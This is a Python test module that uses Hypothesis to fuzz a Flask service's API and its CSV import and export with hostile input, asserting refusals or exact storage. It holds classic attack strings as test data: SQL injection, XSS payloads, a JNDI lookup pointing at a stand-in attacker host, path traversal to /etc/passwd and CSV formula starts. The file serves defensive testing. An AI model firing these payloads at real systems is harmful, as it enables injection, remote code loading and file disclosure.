"""Hostile input, generated: every input schema is fed oversized strings, control
characters, deep nesting, huge numbers, bad dates, SQL and HTML fragments, and the imports
arbitrary bytes and cells. Each request gets a 4xx, or its values are stored and returned
exactly as sent (through an export and an import too); never a 500, never a partial write."""

from __future__ import annotations

import codecs
import csv
import io
import json
from typing import Any

import pytest
from flask.testing import FlaskClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from service.changes.models import ChangeEvent
from service.exchange.assessment_imports import ASSESSMENT_COLUMNS
from service.exchange.columns import COMMITMENT_COLUMNS, FORMULA_STARTS
from tests import builders as build
from tests.api.test_resources import RESOURCES, Resource
from tests.jobs.running import imported, run_jobs

FRAGMENTS = [
    "'; DROP TABLE agreements; --",
    "1 OR 1=1",
    "<script>alert(document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "${jndi:ldap://attacker/x}",
    "../../../../etc/passwd",
    "\u202etxt.exe",
    "\x00",
    "\ud800",
    "\x01\x02\x1b[31m\x7f",
    "null",
    "",
]
BAD_DATES = [
    "2024-02-30",
    "2024-13",
    "0000",
    "99999",
    "2024-1-1",
    "2024-03-04T10:00:00",
    "yesterday",
]


def nested(depth: int) -> Any:
    value: Any = "deep"
    for _ in range(depth):
        value = [value]
    return value


hostile_values = st.one_of(
    st.sampled_from(FRAGMENTS),
    st.sampled_from(BAD_DATES),
    st.text(min_size=1, max_size=40),
    st.text(min_size=5_000, max_size=60_000, alphabet=st.characters(codec="utf-8")),
    st.integers(min_value=-(10**40), max_value=10**40),
    st.sampled_from([2**31, 2**63, -1, 0, 1e308, -1e308, 1.5, True, False, None]),
    st.builds(nested, st.integers(min_value=1, max_value=60)),
    st.dictionaries(st.text(max_size=5), st.text(max_size=5), max_size=3),
    st.lists(st.sampled_from(FRAGMENTS), max_size=4),
)


def changes(session: Session) -> int:
    session.expire_all()
    return session.scalar(select(func.count()).select_from(ChangeEvent)) or 0


def assert_stored_exactly(client: FlaskClient, location: str, sent: dict[str, Any]) -> None:
    stored = client.get(location).json
    for name, value in sent.items():
        if (
            isinstance(value, str)
            and name in stored
            and name not in {"due_date", "start_date", "end_date", "as_of", "date", "published_on"}
        ):
            assert stored[name] == value, name


@pytest.mark.parametrize("resource", RESOURCES, ids=lambda resource: resource.name)
@settings(
    max_examples=30,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=st.data())
def test_hostile_bodies_are_refused_or_kept_exactly(
    client: FlaskClient, session: Session, resource: Resource, data: st.DataObject
) -> None:
    context = resource.setup(session)
    body = resource.body(context)
    field = data.draw(st.sampled_from([*body, "unexpected_field"]), label="field")
    body[field] = data.draw(hostile_values, label="value")
    before = changes(session)
    response = client.post(resource.collection.format(**context), json=body)
    assert response.status_code < 500, response.get_data(as_text=True)
    if response.status_code == 201:
        assert_stored_exactly(client, response.headers["Location"], body)
    else:
        assert 400 <= response.status_code < 500
        assert response.mimetype == "application/problem+json"
        assert changes(session) == before, "a refused request wrote something"


@pytest.mark.parametrize(
    "resource", [r for r in RESOURCES if r.patch], ids=lambda resource: resource.name
)
@settings(
    max_examples=20,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=st.data())
def test_hostile_updates_are_refused_or_kept_exactly(
    client: FlaskClient, session: Session, resource: Resource, data: st.DataObject
) -> None:
    context = resource.setup(session)
    created = client.post(resource.collection.format(**context), json=resource.body(context))
    location = created.headers["Location"]
    field = data.draw(
        st.sampled_from([*resource.body(context), *(resource.patch or {})]), label="field"
    )
    patch = {field: data.draw(hostile_values, label="value")}
    before, current = changes(session), client.get(location).json
    response = client.patch(location, json=patch)
    assert response.status_code < 500, response.get_data(as_text=True)
    if response.status_code == 200:
        assert_stored_exactly(client, location, patch)
    else:
        assert changes(session) == before
        assert client.get(location).json == current


@pytest.mark.parametrize("depth", [1_000, 100_000])
def test_a_body_nested_beyond_reason_is_a_4xx(client: FlaskClient, depth: int) -> None:
    body = "[" * depth + "]" * depth
    response = client.post("/api/v1/themes", data=body, content_type="application/json")
    assert response.status_code in (400, 413, 422)
    assert response.mimetype == "application/problem+json"


@pytest.mark.parametrize(
    "query",
    [
        {"q": "'; DROP TABLE commitments; --"},
        {"q": "\x00"},
        {"q": "x" * 5000},
        {"as_of": "2024-02-30"},
        {"page_size": "99999999999999999999"},
        {"status": "completed' OR '1'='1"},
        {"theme": "<script>"},
        {"party": "%"},
        {"due_before": "0000-00-00"},
    ],
)
def test_hostile_query_parameters_are_refused_or_harmless(
    client: FlaskClient, query: dict[str, str]
) -> None:
    response = client.get("/api/v1/commitments", query_string=query)
    # 422: a filter that names no record (`theme`, `party`).
    assert response.status_code in (200, 400, 422), response.json
    if response.status_code == 200:
        assert response.json["items"] == [] or json.dumps(response.json)


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/agreements/%00",
        "/api/v1/agreements/" + "a" * 5000,
        "/api/v1/agreements/..%2F..%2Fetc",
        "/api/v1/commitments/99999999999999999999",
    ],
)
def test_hostile_paths_are_404s(client: FlaskClient, path: str) -> None:
    response = client.get(path)
    assert response.status_code == 404
    assert response.mimetype == "application/problem+json"


IMPORTS = "/api/v1/imports/"
HEADERS = {
    "commitments": ",".join(column.name for column in COMMITMENT_COLUMNS).encode(),
    "assessments": ",".join(ASSESSMENT_COLUMNS).encode(),
}


# Text as a CSV cell can hold it: anything but NUL and unpaired surrogates, which no record
# takes; formula starts, quotes, separators and line breaks are drawn often.
cell_text = st.text(
    alphabet=st.one_of(
        st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", "'", '"', ",", ";"]),
        st.characters(exclude_categories=["Cs"], exclude_characters="\x00"),
    ),
    min_size=1,
    max_size=30,
)


hostile_cells = st.one_of(
    cell_text,
    st.sampled_from([*FRAGMENTS, "", "9" * 5000, "-1", "1e999", "nan", "x" * 140_000]),
    st.integers(min_value=-(10**6), max_value=10**12).map(str),
)


def csv_text(rows: list[Any], encoding: str) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow(row.split(",") if isinstance(row, str) else row)
    return buffer.getvalue().encode(encoding, errors="replace")


@st.composite
def import_files(draw: st.DrawFn, name: str) -> bytes:
    """Bytes anyhow; or the right header and random bytes; or the right header and rows of
    random cells, well quoted, in UTF-8 or not."""
    header = HEADERS[name]
    columns = header.count(b",") + 1
    rows = st.lists(st.lists(hostile_cells, min_size=columns, max_size=columns), max_size=3)
    return draw(
        st.one_of(
            st.binary(max_size=300),
            st.builds(lambda tail: header + b"\r\n" + tail, st.binary(max_size=300)),
            st.builds(
                lambda cells, encoding, bom: bom + csv_text([header.decode(), *cells], encoding),
                rows,
                st.sampled_from(["utf-8", "utf-16", "latin-1"]),
                st.sampled_from([b"", codecs.BOM_UTF8]),
            ),
        )
    )


@settings(
    max_examples=40,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(title=cell_text, ref=cell_text, summary=cell_text, external_id=cell_text)
def test_text_cells_survive_export_then_import(
    client: FlaskClient, session: Session, title: str, ref: str, summary: str, external_id: str
) -> None:
    agreement = build.make_agreement(session)
    sent = {"title": title, "ref": ref, "summary": summary}
    # Unique across examples, which share the test's transaction; the drawn text starts it.
    external_id = f"{external_id}-{build.unique('x')}"
    commitment = build.make_commitment(session, agreement, **sent, external_id=external_id)
    export = "/api/v1/exports/commitments.csv"
    text = client.get(export, query_string={"agreement": agreement.slug}).get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    before = changes(session)
    job = imported(client, "commitments", text)
    assert job["state"] == "succeeded", job
    assert (job["result"]["updated"], job["result"]["unchanged"]) == (0, 1)
    assert changes(session) == before
    stored = client.get(f"/api/v1/commitments/{commitment.id}").json
    assert {name: stored[name] for name in sent} == sent
    assert stored["external_id"] == external_id


@pytest.mark.parametrize("name", ["commitments", "assessments"])
@settings(
    max_examples=60,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=st.data())
def test_any_bytes_posted_as_an_import_are_a_4xx_or_an_import(
    client: FlaskClient, session: Session, name: str, data: st.DataObject
) -> None:
    body = data.draw(import_files(name), label="body")
    before = changes(session)
    response = client.post(
        IMPORTS + name,
        data=body,
        content_type="application/octet-stream",
        query_string={"dry_run": data.draw(st.sampled_from(["true", "false"]), label="dry_run")},
    )
    assert response.status_code < 500, response.get_data(as_text=True)[:500]
    if response.status_code != 202:
        assert response.status_code in (400, 413, 422)
        assert response.mimetype == "application/problem+json"
        assert changes(session) == before, "a refused import wrote something"
        return
    # Queued: the job then imports the file, or refuses it row by row; it never crashes.
    assert run_jobs(client.application) == 1
    job = client.get(response.headers["Location"]).json
    assert job["state"] in ("succeeded", "failed"), job
    if job["state"] == "failed":
        assert job["result"] is not None and job["result"]["row_errors"], job
        assert changes(session) == before, "a refused import wrote something"
